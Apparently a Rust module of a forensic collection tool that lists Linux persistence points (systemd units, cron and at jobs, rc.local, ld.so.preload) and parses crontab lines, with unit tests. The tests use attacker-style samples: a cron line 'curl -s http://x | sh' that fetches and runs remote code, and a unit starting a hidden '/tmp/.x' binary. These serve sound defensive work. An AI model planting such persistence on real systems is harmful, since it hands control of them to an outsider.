//! Persistence summary (`live/services.json`): what starts by itself on this system —
//! systemd units enabled or defined locally (including runtime and transient units),
//! cron and at jobs, `/etc/rc.local`, `/etc/ld.so.preload`.
//!
//! Owns listing those places and parsing crontab lines. Reads only the examined system's
//! configuration under `/etc`, `/run`, `/var/spool`; never asks systemd or cron (no
//! program of the examined system runs), never reads users' home directories (they are
//! often on network filesystems), and skips any place that is on a network filesystem.

#![cfg_attr(not(target_os = "linux"), allow(dead_code))]

use serde::{Deserialize, Serialize};

use super::network::ConfigFile;
use super::{CaptureKind, Captured, Ctx};

pub const KIND: CaptureKind = CaptureKind {
    name: "services",
    member: "live/services.json",
    schema: "fieldkit.live.services",
    reads: "/etc/systemd/{system,user}, /run/systemd/{system,transient}, /etc/crontab, /etc/cron.*, /var/spool/cron, /etc/anacrontab, /etc/rc.local, /etc/ld.so.preload",
};

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ServicesState {
    /// Units enabled by a symlink in a `*.wants`/`*.requires` directory.
    pub systemd_enabled: Vec<EnabledUnit>,
    /// Unit files and links placed in the admin and runtime directories (not the
    /// vendor ones under /usr/lib): local, runtime, transient and masked units.
    pub systemd_units: Vec<UnitEntry>,
    /// Cron, anacron and at files, content included.
    pub cron_files: Vec<ConfigFile>,
    /// The scheduled commands parsed from them.
    pub cron_entries: Vec<CronEntry>,
    /// Other start-up hooks (`/etc/rc.local`, `/etc/ld.so.preload`), when present.
    pub other: Vec<ConfigFile>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub notes: Vec<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct EnabledUnit {
    pub unit: String,
    /// The `*.wants` / `*.requires` directory, e.g. `multi-user.target.wants`.
    pub via: String,
    /// `system`, `user` or `runtime`.
    pub scope: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub link_target: Option<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct UnitEntry {
    pub path: String,
    /// `file`, `link`, `masked` (a link to /dev/null).
    pub kind: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub link_target: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mtime_utc: Option<String>,
    /// `ExecStart=` lines of a unit file, for a quick read.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub exec: Vec<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CronEntry {
    pub file: String,
    pub line: usize,
    /// The five time fields, or `@reboot`, `@daily`, …
    pub schedule: String,
    /// In system crontabs, the user the command runs as.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    pub command: String,
}

impl Captured for ServicesState {
    fn detail(&self) -> String {
        format!(
            "{} enabled systemd units, {} local/runtime unit entries, {} cron entries in {} files",
            self.systemd_enabled.len(),
            self.systemd_units.len(),
            self.cron_entries.len(),
            self.cron_files.len()
        )
    }
}

/// Parse a crontab. `system` crontabs (/etc/crontab, /etc/cron.d) carry a user field.
pub fn parse_crontab(file: &str, text: &str, system: bool) -> Vec<CronEntry> {
    let mut out = Vec::new();
    for (n, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        // Environment assignments: NAME=value before any whitespace.
        if let Some(eq) = line.find('=')
            && !line[..eq].contains(char::is_whitespace)
        {
            continue;
        }
        let words: Vec<&str> = line.split_whitespace().collect();
        let time_fields = if words[0].starts_with('@') { 1 } else { 5 };
        let user_fields = usize::from(system);
        if words.len() <= time_fields + user_fields {
            continue;
        }
        // The command is the rest of the line verbatim (spacing matters in shell).
        let mut rest = line;
        for _ in 0..time_fields + user_fields {
            rest = rest.trim_start();
            rest = rest.find(char::is_whitespace).map_or("", |i| &rest[i..]);
        }
        out.push(CronEntry {
            file: file.to_string(),
            line: n + 1,
            schedule: words[..time_fields].join(" "),
            user: system.then(|| words[time_fields].to_string()),
            command: rest.trim().to_string(),
        });
    }
    out
}

pub fn exec_lines(unit_text: &str) -> Vec<String> {
    unit_text
        .lines()
        .map(str::trim)
        .filter(|l| {
            l.starts_with("ExecStart=")
                || l.starts_with("ExecStartPre=")
                || l.starts_with("ExecStartPost=")
                || l.starts_with("ExecStop=")
        })
        .map(str::to_string)
        .collect()
}

#[cfg(target_os = "linux")]
pub fn capture(ctx: &Ctx) -> Result<ServicesState, String> {
    use super::network::read_config_file;
    use super::sys;

    let mut state = ServicesState::default();
    let fs = &ctx.roots.fs;
    let usable = |rel: &str, notes: &mut Vec<String>| ctx.may_read(rel, notes);

    for (rel, scope) in [
        ("etc/systemd/system", "system"),
        ("run/systemd/system", "runtime"),
        ("run/systemd/transient", "runtime"),
        ("etc/systemd/user", "user"),
    ] {
        if !usable(rel, &mut state.notes) {
            continue;
        }
        let dir = fs.join(rel);
        let names = match sys::dir_names(&dir) {
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) => {
                state.notes.push(format!("/{rel}: {e}"));
                continue;
            }
        };
        for name in names {
            let name_s = name.to_string_lossy().into_owned();
            let path = dir.join(&name);
            let Ok(meta) = std::fs::symlink_metadata(&path) else {
                continue;
            };
            if meta.is_dir() && (name_s.ends_with(".wants") || name_s.ends_with(".requires")) {
                for unit in sys::dir_names(&path).unwrap_or_default() {
                    state.systemd_enabled.push(EnabledUnit {
                        unit: unit.to_string_lossy().into_owned(),
                        via: name_s.clone(),
                        scope: scope.to_string(),
                        link_target: sys::read_link_bytes(&path.join(&unit))
                            .ok()
                            .map(|t| String::from_utf8_lossy(&t).into_owned()),
                    });
                }
                continue;
            }
            if meta.is_dir() {
                continue;
            }
            let rel_path = format!("/{rel}/{name_s}");
            if meta.file_type().is_symlink() {
                let target = sys::read_link_bytes(&path)
                    .ok()
                    .map(|t| String::from_utf8_lossy(&t).into_owned());
                state.systemd_units.push(UnitEntry {
                    path: rel_path,
                    kind: if target.as_deref() == Some("/dev/null") {
                        "masked"
                    } else {
                        "link"
                    }
                    .to_string(),
                    link_target: target,
                    ..UnitEntry::default()
                });
                continue;
            }
            match sys::read_small_file(&path, 1 << 20) {
                Ok(f) => state.systemd_units.push(UnitEntry {
                    path: rel_path,
                    kind: "file".to_string(),
                    sha256: Some(super::sha256_hex(&f.bytes)),
                    mtime_utc: crate::timefmt::unix_utc(f.mtime, f.mtime_nsec),
                    exec: exec_lines(&String::from_utf8_lossy(&f.bytes)),
                    link_target: None,
                }),
                Err(e) => state.notes.push(format!("{rel_path}: {e}")),
            }
        }
    }

    // Cron: system crontabs carry a user field, per-user spools do not.
    let mut cron_sources: Vec<(String, bool)> = Vec::new();
    for rel in ["etc/crontab", "etc/anacrontab"] {
        cron_sources.push((rel.to_string(), rel == "etc/crontab"));
    }
    for (dir_rel, system) in [
        ("etc/cron.d", true),
        ("var/spool/cron/crontabs", false),
        ("var/spool/cron", false),
        ("etc/cron.hourly", false),
        ("etc/cron.daily", false),
        ("etc/cron.weekly", false),
        ("etc/cron.monthly", false),
        ("var/spool/cron/atjobs", false),
        ("var/spool/at", false),
    ] {
        if !usable(dir_rel, &mut state.notes) {
            continue;
        }
        if let Ok(names) = sys::dir_names(&fs.join(dir_rel)) {
            for n in names {
                let rel = format!("{dir_rel}/{}", n.to_string_lossy());
                if fs.join(&rel).is_file() {
                    cron_sources.push((rel, system));
                }
            }
        }
    }
    for (rel, system) in cron_sources {
        if !usable(&rel, &mut state.notes) {
            continue;
        }
        let Some((file, bytes)) = read_config_file(&ctx.roots, &rel, 256 * 1024) else {
            continue;
        };
        // Scripts in cron.daily etc. are run whole; only crontab files have entries.
        let is_crontab = !rel.starts_with("etc/cron.hourly")
            && !rel.starts_with("etc/cron.daily")
            && !rel.starts_with("etc/cron.weekly")
            && !rel.starts_with("etc/cron.monthly")
            && !rel.contains("atjobs")
            && !rel.starts_with("var/spool/at/")
            && rel != "etc/anacrontab";
        if is_crontab {
            state.cron_entries.extend(parse_crontab(
                &file.path,
                &String::from_utf8_lossy(&bytes),
                system,
            ));
        }
        state.cron_files.push(file);
    }
    for rel in ["etc/rc.local", "etc/ld.so.preload"] {
        if usable(rel, &mut state.notes)
            && let Some((file, _)) = read_config_file(&ctx.roots, rel, 256 * 1024)
        {
            state.other.push(file);
        }
    }
    state.notes.push(
        "per-user systemd units and crontabs under home directories are not read live \
         (homes are often network mounts); the file collection covers them"
            .to_string(),
    );
    Ok(state)
}

#[cfg(not(target_os = "linux"))]
pub fn capture(_ctx: &Ctx) -> Result<ServicesState, String> {
    Ok(ServicesState {
        notes: vec![
            "services, scheduled tasks and autostart entries: not yet on this OS (planned: \
             the Service Control Manager and Task Scheduler APIs on Windows, launchd \
             property lists on macOS)"
                .to_string(),
        ],
        ..ServicesState::default()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn system_and_user_crontabs() {
        let sys = parse_crontab(
            "/etc/crontab",
            "SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/x  --flag\n",
            true,
        );
        assert_eq!(sys.len(), 2);
        assert_eq!(sys[0].schedule, "17 * * * *");
        assert_eq!(sys[0].user.as_deref(), Some("root"));
        assert_eq!(
            sys[0].command,
            "cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(sys[0].line, 3);
        assert_eq!(
            (sys[1].schedule.as_str(), sys[1].command.as_str()),
            ("@reboot", "/opt/x  --flag")
        );
        let user = parse_crontab("u", "*/5 * * * * curl -s http://x | sh\nbad\n", false);
        assert_eq!(user.len(), 1);
        assert_eq!(user[0].command, "curl -s http://x | sh");
        assert_eq!(user[0].user, None);
    }

    #[test]
    fn unit_exec_lines() {
        assert_eq!(
            exec_lines("[Service]\nExecStart=/tmp/.x -d\nUser=root\n ExecStartPre=/bin/true\n"),
            vec!["ExecStart=/tmp/.x -d", "ExecStartPre=/bin/true"]
        );
    }
}
